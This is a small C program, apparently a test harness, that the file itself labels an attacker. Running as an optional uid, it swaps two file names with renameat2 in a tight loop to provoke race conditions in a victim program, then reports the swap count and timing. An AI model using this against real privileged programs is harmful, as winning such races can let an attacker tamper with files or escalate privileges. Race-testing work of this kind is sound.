/* An attacker: exchanges two names as fast as possible until its standard input is closed. Then prints the number of
 * exchanges, and the microseconds of the slowest one: on a busy machine any system call may have to wait.
 *   exchange [-u uid] one other */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int told_to_stop(void) {
  struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
  return poll(&input, 1, 0) > 0;
}

static long long microseconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec * 1000000LL + now.tv_nsec / 1000;
}

int main(int argc, char **argv) {
  int first = 1;
  if (argc == 5 && strcmp(argv[1], "-u") == 0) {
    uid_t uid = (uid_t)strtoul(argv[2], NULL, 10);
    if (setresgid(uid, uid, uid) != 0 || setresuid(uid, uid, uid) != 0) {
      perror("exchange: cannot become that user");
      return 2;
    }
    first = 3;
  } else if (argc != 3) {
    fprintf(stderr, "usage: exchange [-u uid] one other\n");
    return 2;
  }
  const char *one = argv[first], *other = argv[first + 1];
  unsigned long count = 0;
  long long slowest = 0, before = microseconds();
  puts("ready");
  fflush(stdout);
  do {
    for (int i = 0; i < 256; i++) {
      /* The victim may just have removed or replaced a name: the attack continues. */
      if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) == 0)
        count++;
      else if (errno != ENOENT && errno != EBUSY) {
        perror("exchange: renameat2");
        return 2;
      }
      long long after = microseconds();
      if (after - before > slowest) slowest = after - before;
      before = after;
    }
  } while (!told_to_stop());
  printf("%lu %lld\n", count, slowest);
  return 0;
}
